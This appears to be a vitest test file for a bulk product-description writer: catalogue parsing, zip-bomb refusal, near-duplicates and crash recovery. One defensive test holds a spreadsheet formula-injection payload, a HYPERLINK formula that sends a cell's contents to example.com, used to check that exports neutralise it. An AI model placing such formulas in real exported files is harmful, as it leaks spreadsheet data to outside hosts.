/**
 * Bulk writing: reading catalogues (encodings, delimiters, broken rows, XLSX), near-duplicates,
 * a tier-1 run with its result file, and the durability promise: a worker killed with SIGKILL in
 * the middle of a run resumes after restart and ends with exactly one text per row.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import { buildPolett, buildUser, buildWorkspace } from '../../../test-support/builders.js';
import { waitFor, waitForJobEnd } from '../../../test-support/job-builders.js';
import { isPolettError } from '../../errors.js';
import { startWorkers } from '../../jobs/index.js';
import { openPlatform } from '../../platform/index.js';
import { openContentStudio } from '../content-studio.js';
import { contentJobHandlers } from '../job-handlers.js';
import { startCatalogueUpstream } from '../testing/catalogue-upstream.js';
import { readBulkFile, readCsv, readXlsx } from './bulk-file.js';
import { bulkResultFile } from './bulk-run.js';
import { NearDuplicateIndex } from './near-duplicates.js';

const WORKER_SCRIPT = fileURLToPath(new URL('../testing/bulk-worker-process.ts', import.meta.url));
const REPOSITORY_ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const LEASE_MS = 600;

const cleanups: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

async function buildStudio(config: Parameters<typeof buildPolett>[0] = {}) {
  const polett = buildPolett(config);
  cleanups.push(() => polett.close());
  const platform = openPlatform(polett.storage);
  const workspace = buildWorkspace(platform, { owner: await buildUser(platform) });
  const studio = openContentStudio({
    database: polett.storage.database,
    models: polett.models,
    jobs: polett.jobs,
  }).forWorkspace(workspace.id);
  const profile = studio.store.createProfile({
    name: 'Kaffekvarnen',
    rules: { requiredPhrases: ['Rostat i Göteborg'], bannedWords: ['billig'] },
  });
  return { polett, studio, profileId: profile.id, workspaceId: workspace.id };
}

function catalogue(rows: number): Uint8Array {
  const lines = ['Produkt;Egenskaper;Pris'];
  for (let index = 1; index <= rows; index += 1)
    lines.push(`Kaffe nummer ${index};Rostat i liten sats ${index};${100 + index} kr`);
  return new TextEncoder().encode(`${lines.join('\n')}\n`);
}

describe('reading a catalogue', () => {
  it('reads semicolons, Windows-1252 and keeps broken rows with their error', () => {
    const text =
      'Produkt;Pris;Egenskaper\nSmörgåstårta;299 kr;"Räkor; ägg"\nTrasig rad\nKanelbulle;35 kr;Färsk\n';
    const file = readCsv(Buffer.from(text, 'latin1'));
    expect(file.encoding).toBe('windows-1252');
    expect(file.columns).toEqual(['Produkt', 'Pris', 'Egenskaper']);
    expect(file.rows.map((row) => row.values.Produkt)).toEqual(['Smörgåstårta', 'Trasig rad', 'Kanelbulle']);
    expect(file.rows[0]?.values.Egenskaper).toBe('Räkor; ägg');
    expect(file.rows[1]?.error?.en).toBe(
      'Line 3 has 1 fields but the header has 3; correct the line in the file.',
    );
    expect(file.rows[2]?.error).toBeUndefined();
  });

  it('reads the first sheet of an XLSX workbook', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Sortiment');
    sheet.addRow(['Produkt', 'Pris']);
    sheet.addRow(['Kaffe Etiopien', 149]);
    const file = await readBulkFile(new Uint8Array(await workbook.xlsx.writeBuffer()));
    expect(file.format).toBe('xlsx');
    expect(file.rows).toEqual([{ rowNumber: 1, values: { Produkt: 'Kaffe Etiopien', Pris: '149' } }]);
  });

  // exceljs inflates the whole workbook in memory: a workbook that unpacks to far more than it
  // weighs is refused from the zip's directory first (the limit is lowered here to keep it small).
  it('refuses an XLSX that unpacks past the limit, as a zip bomb, before exceljs reads it', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Sortiment');
    sheet.addRow(['Produkt', 'Beskrivning']);
    for (let row = 0; row < 200; row += 1) sheet.addRow([`Kaffe ${row}`, `${row} ${'å'.repeat(5_000)}`]);
    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
    expect(bytes.length).toBeLessThan(200_000);
    const refused = await readXlsx(bytes, 'sortiment.xlsx', {
      maxUnpackedBytes: 1_000_000,
      maxEntries: 100,
    }).catch((error: unknown) => error);
    expect(isPolettError(refused) && refused.code).toBe('file_too_large');
    expect((refused as Error).message).toContain('sortiment.xlsx');
    expect((await readXlsx(bytes, 'sortiment.xlsx')).rows).toHaveLength(200);
  });

  it('refuses a file without rows or with a repeated column, in one sentence', () => {
    const error = (() => {
      try {
        readCsv(new TextEncoder().encode('Produkt;Produkt\na;b\n'));
      } catch (caught) {
        return caught;
      }
    })();
    expect(isPolettError(error) && error.localized.en).toBe(
      'The column "Produkt" appears twice in the header row; give the columns different names.',
    );
  });

  it('flags near-duplicates, not texts that only share a theme', () => {
    const index = new NearDuplicateIndex<number>();
    index.add(1, 'Vårt kaffe från Etiopien är fruktigt och blommigt, rostat i liten sats varje tisdag.');
    expect(
      index.findNear('Vårt kaffe från Etiopien är fruktigt och blommigt, rostat i liten sats varje tisdag!')
        ?.key,
    ).toBe(1);
    expect(
      index.findNear('Brasiliens bönor ger en nötig kopp med låg syra, perfekt till mjölk.'),
    ).toBeUndefined();
  });
});

describe('a bulk run', () => {
  it('writes tier-1 drafts per row, keeps row errors, flags near-duplicates and gives a CSV and an XLSX', async () => {
    const { polett, studio, profileId } = await buildStudio();
    const text =
      'Produkt;Egenskaper\nKaffe Etiopien;Fruktigt\nTrasig;rad;med;för;många\nKaffe Etiopien;Fruktigt\n;Ingen produkt\n';
    const upload = await studio.uploadBulk(new TextEncoder().encode(text), 'sortiment.csv');
    expect(upload.rowCount).toBe(4);
    expect(upload.brokenRows).toBe(1);

    await expect(
      studio.startBulk(upload.id, {
        profileId,
        templateId: 'product-description',
        mapping: { product: 'Namn' },
      }),
    ).rejects.toThrow('The file has no column "Namn"; its columns are Produkt, Egenskaper.');
    await expect(
      studio.startBulk(upload.id, {
        profileId,
        templateId: 'product-description',
        mapping: { features: 'Egenskaper' },
      }),
    ).rejects.toThrow('The field "Product" is needed but no column is mapped to it; choose a column.');

    const job = await studio.startBulk(upload.id, {
      profileId,
      templateId: 'product-description',
      mapping: { product: 'Produkt', features: 'Egenskaper' },
    });
    const workers = startWorkers({
      queue: polett.jobs,
      handlers: contentJobHandlers({ database: polett.storage.database, models: polett.models }),
      pollIntervalMs: 20,
    });
    cleanups.push(() => workers.stop({ timeoutMs: 1000 }));
    const final = await waitForJobEnd(polett.jobs, job.id, 20_000);
    expect(final.state).toBe('succeeded');
    expect(final.result).toEqual({ texts: 2, failed: 2, nearDuplicates: 1, generated: false });

    const texts = studio.store.listTexts({ bulkJobId: job.id });
    expect(texts.map((entry) => [entry.bulkRow, entry.body])).toEqual([
      [1, 'Kaffe Etiopien\n\nFruktigt'],
      [3, 'Kaffe Etiopien\n\nFruktigt'],
    ]);
    expect(texts[1]?.nearDuplicateOf).toBe(texts[0]?.id);
    expect(texts[0]?.findings.map((finding) => finding.rule)).toEqual(['required-phrase']);

    const csv = new TextDecoder().decode(await studio.bulkResult(job.id, 'csv', 'en'));
    const records = parse(csv, { bom: true }) as string[][];
    expect(records[0]).toEqual([
      'row',
      'Produkt',
      'Egenskaper',
      'text',
      'findings',
      'near duplicate of row',
      'error',
    ]);
    expect(records.slice(1).map((record) => [record[0], record[5], record[6]])).toEqual([
      ['1', '', ''],
      ['2', '', 'Line 3 has 5 fields but the header has 2; correct the line in the file.'],
      ['3', '1', ''],
      ['4', '', 'The field "Product" (product) is needed by the template "Product description"; fill it in.'],
    ]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      Buffer.from(await studio.bulkResult(job.id, 'xlsx', 'sv')) as unknown as ArrayBuffer,
    );
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Texter');
    expect(sheet.getRow(2).getCell(4).text).toBe('Kaffe Etiopien\n\nFruktigt');
    expect(sheet.rowCount).toBe(5);
  });
});

describe('the result file', () => {
  // A catalogue cell or a model's text that starts like a formula would run as one when the CSV
  // is opened in Excel (a HYPERLINK that sends the row away); it is kept as text with a leading '.
  it('neutralises cells that Excel would read as formulas, in the CSV, and leaves other text alone', async () => {
    const formula = '=HYPERLINK("https://example.com/?d="&B2;"Klicka")';
    const csv = new TextDecoder().decode(
      await bulkResultFile(
        {
          columns: ['Produkt', 'Pris'],
          rows: [
            {
              row: 1,
              values: { Produkt: formula, Pris: '+46 31 12 34 56' },
              text: undefined,
              error: '@SUM(1)',
            },
            { row: 2, values: { Produkt: 'Kaffe Etiopien', Pris: '-12' }, text: undefined, error: undefined },
          ],
        },
        'csv',
        'sv',
      ),
    );
    const records = parse(csv, { bom: true }) as string[][];
    expect(records[1]).toEqual(['1', `'${formula}`, "'+46 31 12 34 56", '', '', '', "'@SUM(1)"]);
    expect(records[2]).toEqual(['2', 'Kaffe Etiopien', "'-12", '', '', '', '']);
  });
});

describe('a bulk run killed with SIGKILL', () => {
  it('resumes after restart and ends with exactly one text per row', async () => {
    const ROWS = 200;
    const upstream = await startCatalogueUpstream({ delayMs: 10 });
    cleanups.push(() => upstream.close());
    const { polett, studio, profileId } = await buildStudio({
      providers: { upstream: { type: 'openai-compatible', baseURL: upstream.url } },
      models: { stub: { provider: 'upstream', model: 'catalogue' } },
      tasks: { chat: ['stub'] },
    });
    const upload = await studio.uploadBulk(catalogue(ROWS), 'sortiment.csv');
    const job = await studio.startBulk(upload.id, {
      profileId,
      templateId: 'product-description',
      mapping: { product: 'Produkt', features: 'Egenskaper', price: 'Pris' },
    });
    const count = () =>
      polett.storage.database
        .prepare(
          'SELECT COUNT(*) AS texts, COUNT(DISTINCT bulk_row) AS rows FROM content_texts WHERE bulk_job_id = ?',
        )
        .get(job.id) as { texts: number; rows: number };

    const child: ChildProcess = spawn(
      process.execPath,
      ['--import', 'tsx', WORKER_SCRIPT, polett.dataDir, String(LEASE_MS)],
      {
        cwd: REPOSITORY_ROOT,
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    cleanups.push(() => {
      if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
    });
    await waitFor(() => count().texts >= 30, { timeoutMs: 30_000, what: 'the child to write 30 texts' });
    const exited = once(child, 'exit');
    child.kill('SIGKILL');
    await exited;
    const atKill = count();
    expect(atKill.texts).toBeLessThan(ROWS);
    expect(atKill.texts).toBe(atKill.rows);

    const workers = startWorkers({
      queue: polett.jobs,
      handlers: contentJobHandlers({ database: polett.storage.database, models: polett.models }),
      leaseMs: LEASE_MS,
      pollIntervalMs: 50,
    });
    cleanups.push(() => workers.stop({ timeoutMs: 1000 }));
    const final = await waitForJobEnd(polett.jobs, job.id, 60_000);
    expect(final.state).toBe('succeeded');
    expect(final.attempts).toBe(2);
    expect(count()).toEqual({ texts: ROWS, rows: ROWS });
    const texts = studio.store.listTexts({ bulkJobId: job.id, limit: ROWS });
    // Each row's own text, from the stub upstream that repeats the task with the row's fields.
    expect(texts[41]?.body).toContain('Kaffe nummer 42');
    expect(texts[41]?.body).toContain('142 kr');
  });
});
